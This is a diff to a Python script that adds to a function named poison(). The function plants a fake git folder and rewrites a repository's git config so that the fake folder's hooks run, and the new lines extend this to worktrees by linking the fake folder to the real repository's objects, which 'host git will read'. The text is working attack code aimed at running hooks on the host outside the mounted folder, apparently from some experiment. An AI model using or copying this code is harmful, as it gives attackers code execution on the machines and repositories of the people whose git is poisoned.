@@ -297,8 +297,15 @@ def fake_git(folder):
 
 def poison(folder):
     try:
+        dot_git = folder / ".git"
+        if dot_git.is_file() and "/.git/worktrees/" not in dot_git.read_text():
+            return  # poisoned by an earlier experiment already
         evil = fake_git(folder)
         dot_git = folder / ".git"
+        if dot_git.is_file():  # a worktree: point the fake folder's objects at the real ones
+            admin = Path(dot_git.read_text().split("gitdir:")[1].strip())
+            common = admin.parent.parent  # <repo>/.git: not mounted here, but host git will read it
+            (evil / "objects" / "info" / "alternates").write_text(str(common / "objects") + "\\n")
         if dot_git.is_dir() and not dot_git.is_symlink():
             with open(dot_git / "config", "a") as handle:
                 handle.write("[core]\\n\\thooksPath = %s\\n" % (evil / "hooks"))
